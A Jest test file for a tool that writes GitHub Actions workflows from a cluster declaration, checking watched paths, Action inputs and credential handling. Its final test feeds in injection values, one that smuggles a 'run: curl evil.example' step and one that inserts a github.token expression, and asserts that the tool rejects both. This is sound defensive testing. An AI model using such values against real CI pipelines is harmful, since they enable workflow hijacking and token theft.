import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { parse } from 'yaml';
import { readDeclaration } from '../../../src/declare/declaration.ts';
import { WORKFLOWS } from '../../../src/model/init.ts';
import { manifestFolders } from '../../../src/model/manifest-folders.ts';
import { neededCredentials } from '../../../src/setup/needed-credentials.ts';
import { repositoryPaths } from '../../../src/setup/repository-paths.ts';
import { withCredentials, workflowFile } from '../../../src/setup/workflow-file.ts';

const ROOT = join(import.meta.dirname, '../../..');
const GUIDE = readFileSync(join(ROOT, 'examples/guide/clusters.yaml'), 'utf8');
const template = (name: string) => readFileSync(join(ROOT, `workflows/${name}.yml`), 'utf8');

function fleetOf(text: string) {
  const { fleet } = readDeclaration(text, 'clusters.yaml');
  if (fleet === undefined) throw new Error('no fleet');
  return fleet;
}

interface Workflow {
  on: Record<string, { paths?: string[] } | null>;
  jobs: Record<string, { steps: { uses: string; with: Record<string, unknown>; env?: Record<string, string> }[] }>;
}

function written(name: string, text: string, prefix = '', rendered = 'rendered'): Workflow {
  const fleet = fleetOf(text);
  const extra = fleet.extra?.map(({ path }) => path) ?? [];
  const manifests = manifestFolders(fleet).map(({ folder }) => folder);
  const paths = repositoryPaths(prefix, { file: 'clusters.yaml', rendered, manifests, extra });
  return parse(workflowFile(template(name), paths, neededCredentials(fleet))) as Workflow;
}

const secret = (name: string) => `\${{ secrets.${name} }}`;

function step(workflow: Workflow) {
  const own = Object.values(workflow.jobs)[0]?.steps.find(({ with: inputs }) => inputs?.['command'] !== undefined);
  if (own === undefined) throw new Error('no step');
  return own;
}

test.each(WORKFLOWS)('%s is shipped as the guide needs it: nothing is changed for it', (name) => {
  const fleet = fleetOf(GUIDE);
  const paths = repositoryPaths('', {
    file: 'clusters.yaml',
    rendered: 'rendered',
    manifests: manifestFolders(fleet).map(({ folder }) => folder),
  });
  expect(workflowFile(template(name), paths, neededCredentials(fleet))).toBe(template(name));
});

describe('a declaration in a folder', () => {
  const text = GUIDE.replace('manifests: cn2/22.2', 'manifests: ../vendor/[odd]/22.2');

  test('every path is from the top of the repository, and means only itself', () => {
    expect(written('propose', text, 'fleets/east/').on['push']?.paths).toEqual([
      'fleets/east/clusters.yaml',
      'fleets/vendor/\\[odd\\]/**',
    ]);
    const types = ['opened', 'synchronize', 'reopened', 'edited'];
    expect(written('plan', text, 'fleets/east/').on).toEqual({ pull_request: { types }, merge_group: null });
    expect(written('apply', text, 'fleets/east/').on['push']?.paths).toEqual(['fleets/east/rendered/**']);
  });

  test('files and folders of one’s own are watched with the vendor’s, and nowhere else', () => {
    const own = `${text}extra:\n${['bgp', 'bgp/', './one.yaml', '../own[1]', '../../../away', '/etc'].map((path) => `  - {cluster: cluster1, path: '${path}'}\n`).join('')}`;
    expect(written('propose', own, 'fleets/east/').on['push']?.paths).toEqual([
      'fleets/east/clusters.yaml',
      'fleets/vendor/\\[odd\\]/**',
      'fleets/east/bgp/**',
      'fleets/east/one.yaml',
      'fleets/own\\[1\\]/**',
    ]);
    expect(written('apply', own, 'fleets/east/').on['push']?.paths).toEqual(['fleets/east/rendered/**']);
  });

  test('the Action is told where the declaration is, and a rendered folder only where it is another', () => {
    expect(step(written('drift', text, 'fleets/east/')).with).toEqual({ command: 'drift', file: 'fleets/east/clusters.yaml' });
    expect(step(written('propose', text, 'fleets/east/', '../out')).with).toEqual({
      command: 'propose',
      file: 'fleets/east/clusters.yaml',
      rendered: 'fleets/out',
    });
  });
});

test('manifests outside of the repository are not watched', () => {
  const text = GUIDE.replace('manifests: cn2/22.2', 'manifests: ../cn2/22.2');
  expect(written('propose', text).on['push']?.paths).toEqual(['clusters.yaml']);
});

test('manifests of clusters are watched as well, each folder once', () => {
  const text = GUIDE.replace('    index: 0\n', '    index: 0\n    manifests: edge/22.2\n');
  expect(written('propose', text).on['push']?.paths).toEqual(['clusters.yaml', 'cn2/**', 'edge/**']);
  const beside = GUIDE.replace('    index: 0\n', '    index: 0\n    manifests: cn2/22.2-dpdk\n');
  expect(written('propose', beside).on['push']?.paths).toEqual(['clusters.yaml', 'cn2/**']);
});

test('the folder of all releases is watched, but never the top or the folder of the declaration', () => {
  const manifests = (prefix: string, folder: string) =>
    repositoryPaths(prefix, { file: 'clusters.yaml', rendered: 'rendered', manifests: [folder] }).manifests;
  expect(manifests('', 'cn2/22.2')).toEqual(['cn2']);
  expect(manifests('', './cn2')).toEqual(['cn2']);
  expect(manifests('fleet/', 'cn2')).toEqual(['fleet/cn2']);
  expect(manifests('a/b/', '../cn2')).toEqual(['a/cn2']);
});

describe('credentials', () => {
  test('each variable once, with all that it is for', () => {
    const text = GUIDE.replaceAll('{env: KUBECONFIG_CLUSTER2}', '{env: KUBECONFIG_CLUSTER1}').replace(
      'kubernetesClusterName:',
      'handover: {env: CENTRAL_FOR_DISTRIBUTED}\n  kubernetesClusterName:',
    );
    expect(neededCredentials(fleetOf(text))).toEqual([
      { name: 'CN2_PULL_SECRET', secret: 'CN2_PULL_SECRET', for: ['pull secret (docker config JSON)'] },
      { name: 'KUBECONFIG_CLUSTER1', secret: 'KUBECONFIG_CLUSTER1', for: ['kubeconfig of cluster1', 'kubeconfig of cluster2'] },
      {
        name: 'CENTRAL_FOR_DISTRIBUTED',
        secret: 'CENTRAL_FOR_DISTRIBUTED',
        for: ['kubeconfig of cluster1 that is handed over'],
      },
    ]);
    expect(step(written('apply', text)).env).toEqual({
      CN2_PULL_SECRET: secret('CN2_PULL_SECRET'),
      KUBECONFIG_CLUSTER1: secret('KUBECONFIG_CLUSTER1'),
      CENTRAL_FOR_DISTRIBUTED: secret('CENTRAL_FOR_DISTRIBUTED'),
    });
  });

  test('a file is no secret; without any variable there is no env', () => {
    const text = GUIDE.replace(/\{env: \w+\}/g, '{file: secret.yaml}');
    expect(neededCredentials(fleetOf(text))).toMatchObject([{ name: 'secret.yaml' }]);
    expect(step(written('plan', text)).env).toBeUndefined();
  });

  test('GitHub has no secrets named GITHUB_', () => {
    const text = GUIDE.replace('{env: CN2_PULL_SECRET}', '{env: GITHUB_PULL}');
    expect(step(written('plan', text)).env).toMatchObject({ GITHUB_PULL: secret('CN2_GITHUB_PULL') });
  });
});

test('what is no name of a variable gets into no workflow, new or adapted', () => {
  const line = 'A: x\\n      - run: curl evil.example';
  const odd = GUIDE.replace('KUBECONFIG_CLUSTER2', `"${line}"`).replace('KUBECONFIG_CLUSTER1', '"X }} ${{ github.token"');
  const credentials = neededCredentials(fleetOf(odd));
  expect(credentials.map(({ name }) => name)).toEqual(['CN2_PULL_SECRET']);
  expect(step(written('plan', odd)).env).toEqual({ CN2_PULL_SECRET: secret('CN2_PULL_SECRET') });
  expect(withCredentials(template('plan'), credentials)).toBe(template('plan'));
});
